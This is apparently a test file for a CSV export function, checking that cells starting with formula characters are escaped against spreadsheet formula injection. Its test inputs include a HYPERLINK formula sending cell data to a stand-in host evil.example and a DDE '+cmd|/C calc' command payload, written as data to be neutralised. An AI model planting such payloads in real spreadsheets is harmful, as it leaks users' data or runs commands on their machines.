import { describe, expect, test } from 'vitest';
import { toCsv } from '../../console/src/design/csv.ts';

describe('CSV files', () => {
  test.each([
    ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
    ['+cmd|/C calc!A0', `'+cmd|/C calc!A0`],
    ['-1+1', `'-1+1`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['a=1', 'a=1'],
    ['', ''],
    ['José, "Pepe"', '"José, ""Pepe"""'],
  ])('a cell %j is written as %j', (cell, written) => {
    expect(toCsv(['name'], [[cell]])).toBe(`name\r\n${written}\r\n`);
  });

  test('numbers stay numbers, and what is missing is empty', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-1, null, undefined, true]])).toBe(
      'a,b,c,d\r\n-1,,,true\r\n',
    );
  });

  test('headers are cells too', () => {
    expect(toCsv(['=1'], [])).toBe(`'=1\r\n`);
  });
});
